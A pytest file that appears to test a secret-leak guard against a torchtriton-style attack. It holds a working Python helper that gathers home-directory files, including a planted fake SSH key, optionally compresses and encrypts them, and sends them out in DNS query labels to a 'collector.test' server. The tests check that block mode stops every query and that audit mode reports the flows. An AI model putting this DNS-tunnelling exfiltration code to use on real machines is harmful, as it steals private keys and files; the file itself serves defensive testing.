# SPDX-License-Identifier: MIT
"""I-05, torchtriton: files of the home directory in the labels of DNS questions.

A static helper read up to a thousand files, compressed and encrypted them, and asked a name server
of its own choice. What is encrypted is known by nobody on its way: the destination decides, or the
home directory is not worth a theft.
"""

from __future__ import annotations

import secrets
import sys
from collections.abc import Callable

import pytest

from lab import Lab
from lab.guard import DENIED, FINDINGS, Guarded
from lab.network import BARE, RESOLVER
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

FILES = 20
HELPER = """\
import base64, os, pathlib, socket, struct, sys, zlib

server, answers, encrypted = sys.argv[1], sys.argv[2] == "answers", sys.argv[3] == "encrypted"
texts = [path.read_bytes() for path in sorted(pathlib.Path("home").rglob("*")) if path.is_file()]
data = b"".join(texts)
if encrypted:
    data = zlib.compress(data)
    data = bytes(a ^ b for a, b in zip(data, os.urandom(len(data))))
word = base64.b32encode(data).decode().rstrip("=").lower()
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asker.settimeout(0.2)
for number, start in enumerate(range(0, len(word), 55)):
    labels = [word[start : start + 55], str(number), "collector", "test"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\\0"
    head = struct.pack("!6H", number, 256, 1, 0, 0, 0)
    try:
        asker.sendto(head + name + b"\\0\\1\\0\\1", (server, 53))
        if answers:
            asker.recv(512)
    except OSError:
        pass
"""
SERVERS = {"its-own": (BARE, "silent"), "the-platform's": (RESOLVER, "answers")}


def job(lab: Lab, key: Token, server: str, form: str) -> list[str]:
    """The helper, beside a home directory with a private key in it."""
    home = lab.directory / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_lab").write_text(key.value)
    for number in range(FILES):
        (home / f"file{number}").write_text(f"{number} " * 40)
    (lab.directory / "triton.py").write_text(HELPER)
    return [sys.executable, "triton.py", *SERVERS[server], form]


def private_key() -> Token:
    """Lines of base64 between the lines that everybody's key has."""
    limit = "-----{} OPENSSH PRIVATE KEY-----"
    lines = [secrets.token_urlsafe(48) for _ in range(5)]
    return Token("SSH_KEY", "\n".join([limit.format("BEGIN"), *lines, limit.format("END"), ""]))


def questions(lab: Lab) -> int:
    """How many of the helper's questions arrived anywhere."""
    return len(lab.dns.questions) + len(lab.collector.connections)


@pytest.mark.parametrize("server", sorted(SERVERS))
@pytest.mark.parametrize("form", ["plain", "encrypted"])
def test_unguarded_every_question_arrives(lab: Lab, server: str, form: str) -> None:
    lab.run(job(lab, private_key(), server, form))
    assert questions(lab) > 5


@pytest.mark.parametrize("server", sorted(SERVERS))
@pytest.mark.parametrize("form", ["plain", "encrypted"])
def test_block_lets_no_question_out(lab: Lab, leakstop: Guard, server: str, form: str) -> None:
    """Neither the server nor the names are in the policy."""
    key = private_key()
    run = leakstop(job(lab, key, server, form), mode="block")
    assert questions(lab) == 0
    assert run.code == DENIED
    assert run.report["verdict"] == "fail"


@pytest.mark.parametrize("server", sorted(SERVERS))
def test_audit_knows_what_is_not_encrypted(lab: Lab, leakstop: Guard, server: str) -> None:
    """Base32 in pieces of 55 letters, over a series of questions; the key was declared."""
    key = private_key()
    run = leakstop(job(lab, key, server, "plain"), mode="audit", secrets=[key])
    assert run.code == FINDINGS, run.stderr
    assert {finding["secret"] for finding in run.findings()} == {key.name}
    assert run.shows(key) == []


@pytest.mark.parametrize("server", sorted(SERVERS))
def test_audit_lists_what_is_encrypted_and_no_more(lab: Lab, leakstop: Guard, server: str) -> None:
    """Honest: it leaves. The report names where it went, and nobody calls it clean."""
    key = private_key()
    run = leakstop(job(lab, key, server, "encrypted"), mode="audit", secrets=[key])
    assert questions(lab) > 0
    assert (run.code, run.findings()) == (0, []), run.stderr
    flows = run.report["flows"]
    assert any(flow["ip"] == BARE or "collector.test" in flow["host"] for flow in flows)
